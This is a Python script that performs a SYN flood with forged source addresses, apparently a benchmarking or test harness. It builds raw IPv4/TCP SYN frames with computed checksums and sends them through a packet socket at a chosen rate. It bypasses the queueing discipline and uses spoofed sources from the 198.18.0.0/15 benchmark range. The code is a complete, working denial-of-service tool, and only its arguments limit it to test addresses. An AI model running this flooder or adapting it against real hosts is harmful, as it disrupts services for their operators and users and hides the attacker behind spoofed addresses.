"""SYN flood from forged sources: INTERFACE DESTINATION PORT SOURCES PACKETS_PER_S SECONDS.

Bounded in count and time, or until SIGTERM; frames are built once and sent through a packet socket.
"""
import fcntl
import signal
import socket
import struct
import sys
import time

interface, destination, port, sources, rate, seconds = sys.argv[1:7]
port, sources, rate, seconds = int(port), int(sources), int(rate), float(seconds)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(mac, own, source, number):
    target = socket.inet_aton(destination)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, 6, 0, source, target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    ports = struct.pack("!HH", 1024 + number % 60000, port)
    tcp = ports + struct.pack("!IIBBHHH", number, 0, 0x50, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return mac + own + b"\x08\x00" + head + tcp


sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((interface, 0))
# SOL_PACKET, PACKET_QDISC_BYPASS: the sender is to cost the machine as little as it can.
sock.setsockopt(263, 20, 1)
own = fcntl.ioctl(sock.fileno(), 0x8927, struct.pack("256s", interface.encode()))[18:24]
mac = bytes.fromhex(sys.argv[7].replace(":", ""))
# 198.18.0.0/15 is for benchmarks (RFC 2544).
address = [socket.inet_aton("198.18.%d.%d" % (i >> 8, i & 255)) for i in range(sources)]
frames = [frame(mac, own, address[i % sources], i) for i in range(max(sources, 2000))]
ended = []
signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
# Building frames is not part of the flood.
print("ready", flush=True)
sent, begun = 0, time.monotonic()
while not ended:
    passed = time.monotonic() - begun
    if passed >= seconds:
        break
    due = int(passed * rate) - sent
    for _ in range(min(due, 200)):
        sock.send(frames[sent % len(frames)])
        sent += 1
    if due < 200:
        # In bursts: every wake-up takes a CPU from whoever has it.
        time.sleep(0.01)
print(sent)
